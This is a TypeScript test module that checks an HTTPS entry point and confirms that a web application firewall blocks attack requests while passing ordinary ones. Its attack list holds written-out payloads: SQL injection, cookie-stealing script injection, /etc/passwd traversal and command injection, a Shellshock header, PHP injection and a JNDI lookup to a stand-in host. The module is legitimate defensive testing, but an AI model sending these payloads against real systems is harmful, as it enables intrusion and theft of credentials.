import type { Findings } from '../openstack/findings';
import { until } from './household';
import type { Visitor } from './visitor';

/** HTTPS by a certificate of the authority, through entry, application and database. */
export const proveEntry = async (findings: Findings, visitor: Visitor): Promise<void> => {
  const started = Date.now();
  visitor.trust();
  const answer = await until(1200, async () => ((await visitor.visit('/api/notes')).status === 200 ? true : undefined), 5);
  const seconds = Math.round((Date.now() - started) / 1000);
  if (answer === undefined) {
    const said = await visitor.visit('/api/notes', ['--insecure']);
    findings.failed(
      'entry',
      'HTTPS answers 200 through entry, application and database',
      `${said.status} ${said.body.slice(0, 200)}`,
    );
    return;
  }
  findings.proved(
    'entry',
    'HTTPS answers 200 through entry, application and database',
    `certificate by ACME, after ${seconds} s`,
  );
  const before = Number((await visitor.visit('/api/notes')).body);
  const made = await visitor.visit('/api/notes', ['--data', 'first']);
  const after = Number((await visitor.visit('/api/notes')).body);
  findings.expectNone(
    'entry',
    'what is posted is a row of the database',
    made.status === 200 && after === before + 1 ? [] : [`${before}, ${made.status}, ${after}`],
  );
  const plain = await visitor.visit('/api/notes', [], 'http');
  findings.expectNone('entry', 'plain HTTP is sent to HTTPS', plain.status === 308 ? [] : [String(plain.status)]);
};

/** One attack of each kind that the OWASP rules are made for; none of them is harmful to what answers here. */
const attacks: readonly (readonly [string, readonly string[], string])[] = [
  ['SQL injection', [], '/api/notes?id=1%27%20OR%20%271%27%3D%271%27--%20'],
  ['SQL injection, UNION', [], '/api/notes?id=1%20UNION%20SELECT%20username,password%20FROM%20users'],
  ['cross-site scripting', [], '/api/notes?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E'],
  ['path traversal', ['--path-as-is'], '/api/notes?file=../../../../etc/passwd'],
  ['remote command', [], '/api/notes?x=%3Bcat%20/etc/passwd'],
  ['command in a header', ['--header', 'User-Agent: () { :;}; /bin/bash -c "cat /etc/passwd"'], '/api/notes'],
  ['PHP injection', [], '/api/notes?x=%3C%3Fphp%20system(%27id%27)%3B%3F%3E'],
  ['scanner', ['--header', 'User-Agent: sqlmap/1.7'], '/api/notes'],
  ['lookup by JNDI', ['--header', 'X-Api: ${jndi:ldap://x.example/a}'], '/api/notes?q=$%7Bjndi:ldap://x.example/a%7D'],
];

const usual: readonly (readonly [string, readonly string[], string])[] = [
  ['a page', [], '/api/notes'],
  ['a query with words', [], '/api/notes?q=appointment+on+Monday&lang=de'],
  ['a form', ['--data-urlencode', 'text=Ich möchte am Dienstag, 14:30 Uhr, vorbeikommen (mit Kind).'], '/api/notes'],
  [
    'a document in JSON',
    ['--header', 'Content-Type: application/json', '--data', '{"name":"Ana Müller","age":34,"note":"it\'s fine"}'],
    '/api/notes',
  ],
  ['a browser', ['--user-agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'], '/api/notes'],
];

export const proveFilter = async (findings: Findings, visitor: Visitor): Promise<void> => {
  const wrong: string[] = [];
  for (const [name, words, where] of attacks) {
    const { status } = await visitor.visit(where, ['--globoff', ...words]);
    if (status !== 403) wrong.push(`${name}: ${status}`);
  }
  findings.expectNone('filter', `${attacks.length} attacks are refused`, wrong);
  const hindered: string[] = [];
  for (const [name, words, where] of usual) {
    const { status } = await visitor.visit(where, words);
    if (status !== 200) hindered.push(`${name}: ${status}`);
  }
  findings.expectNone('filter', `${usual.length} usual visits pass`, hindered);
};
